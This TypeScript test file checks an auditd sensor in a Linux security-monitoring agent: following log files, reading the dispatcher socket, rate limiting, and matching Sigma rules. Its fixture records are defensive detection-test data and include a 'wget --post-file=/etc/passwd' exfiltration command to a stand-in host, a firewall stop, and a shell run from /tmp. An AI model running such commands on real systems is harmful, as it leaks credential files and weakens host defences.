import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Socket } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import t, { type Test } from 'tap';
import { type AnyEvent, eventSpecs } from '#shared/events/registry.gen.ts';
import type { EventRow } from '#shared/schema/columns.ts';
import { compileRules, Matcher, parseRules } from '#shared/sigma/index.ts';
import type { SensorOptions } from '../../../agent/sensors/options.ts';
import { createSensors } from '../../../agent/sensors/registry.ts';
import { columnarOf } from '../../../collector/rules/columnar.ts';
import { tempFolder } from '../../temp.ts';
import { Collected, faultOf } from './collected.ts';
import { FixtureHost } from './fixture-host.ts';

const fixture = (name: string) =>
  readFileSync(join(import.meta.dirname, `../../fixtures/audit/${name}.txt`), 'latin1');

async function run(t: Test, options: SensorOptions) {
  const sensor = createSensors(options).find((each) => each.describe().name === 'audit');
  if (sensor === undefined) throw new Error('no audit sensor');
  const got = new Collected();
  const state = await sensor.start(got.emit);
  t.teardown(async () => {
    await sensor.stop();
    if (got.faults.length > 0) throw new Error(got.faults.join());
  });
  return { got, sensor, state };
}

function hostOf(t: Test): FixtureHost {
  const host = new FixtureHost();
  t.teardown(() => host.end());
  host.process(1, 'init', 0);
  return host;
}

const rules = join(import.meta.dirname, '../../../../shared/sigma/sigmahq.tar.gz');
const onLinux = process.platform === 'linux';

t.test('the file is followed, and taken up again', { skip: !onLinux }, async (t) => {
  const host = hostOf(t);
  const options = { ...host.options, stateFolder: host.path('state') };
  host.write('var/log/audit/audit.log', '');
  const { got, sensor, state } = await run(t, options);
  t.match(state, { status: 'running', mode: 'followed', note: /audit\.log/ });
  host.append('var/log/audit/audit.log', Buffer.from(fixture('enriched'), 'latin1'));
  await got.until('audit.record', (event) => event['auditd.type'] === 'CRED_DISP');
  t.ok(got.of('file.create').length >= 5);
  t.ok(got.of('login').length >= 4, 'no log tells logins here');
  t.match(
    got.of('process.start').find((event) => event['process.name'] === 'wget'),
    {
      'event.provider': 'auditd',
      'process.command_line': /--post-file/,
      'process.entity_id': /^[0-9a-f]{20}$/,
    },
  );
  t.same([...new Set(got.events.map((event) => event['event.baseline']))], [undefined]);
  const count = got.events.length;
  await sensor.stop();
  const second = await run(t, options);
  host.append(
    'var/log/audit/audit.log',
    'type=SERVICE_STOP msg=audit(1795276000.107:99999): pid=1 uid=0 msg=\'unit=ufw comm="systemd" exe="/x" res=success\'\n',
  );
  await second.got.until('audit.record', (event) => event['auditd.unit'] === 'ufw');
  t.equal(second.got.events.length, 1, 'nothing twice');
  const half = (type: string, text: string) => `type=${type} msg=audit(1795276001.000:100000): ${text}\n`;
  host.append(
    'var/log/audit/audit.log',
    half('SYSCALL', 'arch=c000003e syscall=59 success=yes exit=0 pid=4 comm="x" exe="/x"'),
  );
  await sleep(100);
  await second.sensor.stop();
  host.append(
    'var/log/audit/audit.log',
    `${half('EXECVE', 'argc=1 a0="x"')}${half('PROCTITLE', 'proctitle=78')}`,
  );
  const third = await run(t, options);
  await third.got.until('audit.record', (event) => event['auditd.type'] === 'PROCTITLE');
  t.same(
    third.got.of('audit.record').map((event) => event['auditd.type']),
    ['SYSCALL', 'EXECVE', 'PROCTITLE'],
    'an event that was half there is whole',
  );
  t.ok(count > 250, `${count} events`);
});

t.test('what other sources tell is left to them', { skip: !onLinux }, async (t) => {
  const host = hostOf(t);
  host.write('var/log/audit/audit.log', '');
  host.write('var/log/auth.log', '');
  const sensors = createSensors({ ...host.options, journal: false });
  const got = new Collected();
  for (const sensor of sensors) await sensor.start(got.emit);
  host.append('var/log/audit/audit.log', Buffer.from(fixture('raw'), 'latin1'));
  await got.until('audit.record', (event) => event['auditd.type'] === 'CRED_DISP');
  for (const sensor of sensors) await sensor.stop();
  t.same(got.of('login'), []);
  t.same(got.faults, []);
  t.ok(got.of('file.rename').length > 0);

  const { got: quiet } = await run(t, { ...hostOf(t).options, auditEvents: ['file'] });
  t.same(quiet.events, []);
});

t.test('the socket of the dispatcher, which ends and comes back', { skip: !onLinux }, async (t) => {
  const host = hostOf(t);
  const path = host.path('run/audispd_events');
  const open = async (text: string) => {
    const sockets: Socket[] = [];
    const server = createServer((socket) => {
      sockets.push(socket);
      socket.on('error', () => {});
      socket.write(Buffer.from(text, 'latin1'));
    });
    await new Promise<void>((resolve) => server.listen(path, resolve));
    return async () => {
      for (const socket of sockets) socket.destroy();
      await new Promise((resolve) => server.close(resolve));
    };
  };
  const close = await open(fixture('enriched').repeat(3));
  const { got, state } = await run(t, host.options);
  t.equal(state.status, 'running');
  while (got.of('audit.record').filter((event) => event['auditd.type'] === 'USER_CMD').length < 3)
    await sleep(20);
  await close();
  const closeAgain = await open(
    `${'x'.repeat(3_000_000)}\ntype=USER_LOGOUT msg=audit(1795276000.107:5): pid=1 msg='op=logout acct="al" res=success'\n`,
  );
  await got.until('login', (event) => event['event.action'] === 'logout');
  await closeAgain();
});

t.test('records beyond the rate wait; too many are lost and said to be', { skip: !onLinux }, async (t) => {
  const host = hostOf(t);
  host.write('var/log/audit/audit.log', '');
  const { got } = await run(t, { ...host.options, auditRecordsPerSecond: 1 });
  const line = `type=USER msg=audit(1795276000.107:5): pid=1 msg='text=${'y'.repeat(8000)} res=success'\n`;
  host.append('var/log/audit/audit.log', line.repeat(9000));
  const lost = await got.until('loss', () => true);
  t.match(lost, { 'loss.sensor': 'audit', 'loss.reason': 'sensor-overrun' });
  t.ok(lost['loss.count'] > 300 && lost['loss.count'] < 9000);
});

/** Titles of rules that match, each with the types of records it matched. */
function alertsOf(events: readonly AnyEvent[], folder: string): Map<string, Set<string>> {
  execFileSync('tar', ['xzf', rules, '-C', folder, 'rules/linux/auditd', 'rules/linux/builtin']);
  const files = execFileSync('find', [folder, '-name', '*.yml'], { encoding: 'utf8' }).trim().split('\n');
  const documents = files.flatMap((file) => parseRules(readFileSync(file, 'utf8'), file).documents);
  const specs = Object.values(eventSpecs);
  const { ruleSet, refused } = compileRules(documents, { specs });
  t.same(refused, []);
  const found = new Map<string, Set<string>>();
  const matcher = new Matcher(ruleSet.rules, specs, (_, error) => {
    throw error;
  });
  const records = events.filter((event) => event.type === 'audit.record');
  const columns = columnarOf(eventSpecs['audit.record'], records as unknown as EventRow[]);
  matcher.match(columns, 'linux', ({ rule }, row) => {
    const types = found.get(rule.title) ?? new Set();
    types.add(records[row]?.['auditd.type'] ?? '');
    found.set(rule.title, types);
  });
  return found;
}

const skipRules = existsSync(rules) ? false : 'the public rules are not here';
for (const name of ['enriched', 'raw']) {
  t.test(`${name}: public rules fire on the records they are about`, { skip: skipRules }, async (t) => {
    const host = hostOf(t);
    host.write('var/log/audit/audit.log', '');
    const { got } = await run(t, host.options);
    const more = [
      `type=SERVICE_STOP msg=audit(1795276000.107:99999): pid=1 uid=0 auid=4294967295 msg='unit=firewalld comm="systemd" exe="/usr/lib/systemd/systemd" res=success'`,
      `type=PATH msg=audit(1795276000.107:100000): item=1 name="/etc/systemd/system/x.service" nametype=CREATE mode=0100644`,
      `type=SYSCALL msg=audit(1795276000.107:100001): arch=c000003e syscall=59 success=yes exit=0 pid=4 euid=33 comm="sh" exe="/tmp/sh"`,
      `type=EXECVE msg=audit(1795276000.107:100003): argc=3 a0="wget" a1="--post-file=/etc/passwd" a2="http://x/"`,
      `type=USER_CMD msg=audit(1795276000.107:100002): pid=1 msg='cwd="/" cmd="x" res=success'`,
    ];
    host.append('var/log/audit/audit.log', Buffer.from(`${fixture(name)}${more.join('\n')}\n`, 'latin1'));
    await got.until('audit.record', (event) => event['auditd.sequence'] === 100_002);
    for (const sequence of [100_001, 100_003])
      await got.until('audit.record', (event) => event['auditd.sequence'] === sequence);
    const alerts = alertsOf(got.events, tempFolder(t));
    t.comment([...alerts].map(([title, types]) => `${title}: ${[...types]}`).join('\n'));
    const fires = (title: string, type: string) => t.same([...(alerts.get(title) ?? [])], [type], title);
    fires('Suspicious Commands Linux', 'EXECVE');
    fires('Data Exfiltration with Wget', 'EXECVE');
    fires('Disable System Firewall', 'SERVICE_STOP');
    fires('Systemd Service Creation', 'PATH');
    fires('Program Executions in Suspicious Folders', 'SYSCALL');
    fires('Webshell Remote Command Execution', 'SYSCALL');
  });
}

function auditdSkip(): string | false {
  if (process.getuid?.() !== 0) return 'needs root';
  const status = spawnSync('auditctl', ['-s'], { encoding: 'utf8' });
  if (status.status !== 0) return 'auditctl is missing, or the kernel has no audit';
  if (spawnSync('auditd', ['--help']).error !== undefined) return 'auditd is not installed';
  return /^enabled 0$/m.test(status.stdout) && /^pid 0$/m.test(status.stdout)
    ? false
    : 'auditing is in use on this host';
}

t.test(
  'a real auditd: programs and files by its rules, through file and socket',
  { skip: auditdSkip() },
  async (t) => {
    const host = hostOf(t);
    const folder = tempFolder(t);
    const play = join(folder, 'play');
    mkdirSync(play);
    mkdirSync(join(folder, 'plugins'));
    mkdirSync(host.path('var/log/audit'), { recursive: true });
    chmodSync(folder, 0o700);
    const log = host.path('var/log/audit/audit.log');
    const config = {
      log_file: log,
      log_format: 'ENRICHED',
      flush: 'NONE',
      plugin_dir: join(folder, 'plugins'),
      ...{
        space_left: 2,
        admin_space_left: 1,
        space_left_action: 'IGNORE',
        admin_space_left_action: 'IGNORE',
      },
      ...{ disk_full_action: 'IGNORE', disk_error_action: 'IGNORE' },
    };
    const text = Object.entries(config).map(([key, value]) => `${key} = ${value}\n`);
    writeFileSync(join(folder, 'auditd.conf'), text.join(''), { mode: 0o640 });
    const socket = host.path('run/audispd_events');
    const plugin = [
      'active = yes',
      'direction = out',
      'path = builtin_af_unix',
      'type = builtin',
      `args = 0600 ${socket}`,
    ];
    writeFileSync(join(folder, 'plugins/af_unix.conf'), `${plugin.join('\n')}\nformat = string\n`, {
      mode: 0o640,
    });
    const daemon = spawn('auditd', ['-n', '-c', folder], { stdio: 'ignore' });
    const ended = new Promise((resolve) => daemon.once('close', resolve));
    t.teardown(async () => {
      spawnSync('auditctl', ['-D']);
      daemon.kill();
      await ended;
      spawnSync('auditctl', ['-e', '0']);
    });
    for (let i = 0; i < 200 && !existsSync(log); i++) await sleep(50);
    const mine = ['-F', 'auid=4243'];
    spawnSync('auditctl', [
      '-a',
      'always,exit',
      '-F',
      'arch=b64',
      '-S',
      'execve',
      ...mine,
      '-k',
      'vedette_test',
    ]);
    spawnSync('auditctl', [
      '-a',
      'always,exit',
      '-F',
      `dir=${play}`,
      '-F',
      'perm=wa',
      ...mine,
      '-k',
      'vedette_test',
    ]);
    const { got, state } = await run(t, { ...host.options, procRoot: '/proc' });
    t.equal(state.status, 'running', JSON.stringify(state));
    for (let i = 0; i < 200 && !existsSync(socket); i++) await sleep(50);
    const other = hostOf(t);
    other.link('run/audispd_events', socket);
    const through = await run(t, { ...other.options, procRoot: '/proc' });
    while (!JSON.stringify(through.sensor.state()).includes('from socket')) await sleep(20);
    const script = `echo 4243 > /proc/self/loginuid; cd ${play}; /bin/true "some words" $'new\\nline'; echo x > one; mv one 'two words'; rm 'two words'`;
    execFileSync('bash', ['-c', script]);
    const removed = await got.until('file.delete', (event) => event['file.name'] === 'two words');
    t.match(removed, { 'file.path': join(play, 'two words'), 'process.name': 'rm' });
    t.match(
      got.of('file.rename').find((event) => event['file.name'] === 'two words'),
      { 'file.previous.path': join(play, 'one') },
    );
    const ran = await got.until('audit.record', (event) => event['auditd.a1'] === 'some words');
    t.match(ran, {
      'auditd.a2': 'new\nline',
      'user.audit.id': '4243',
      'process.executable': '/usr/bin/true',
    });
    const same = await through.got.until('file.delete', (event) => event['file.name'] === 'two words');
    t.equal(same.time, removed.time, 'the socket tells the same');
    t.ok(through.got.of('audit.record').some((event) => event['auditd.a1'] === 'some words'));
    const short = await got.until('process.start', (event) => event['process.name'] === 'true');
    t.match(short, { 'event.provider': 'auditd', 'process.command_line': '/bin/true some words new\nline' });
    for (const event of got.events) t.equal(faultOf(event), undefined);
  },
);
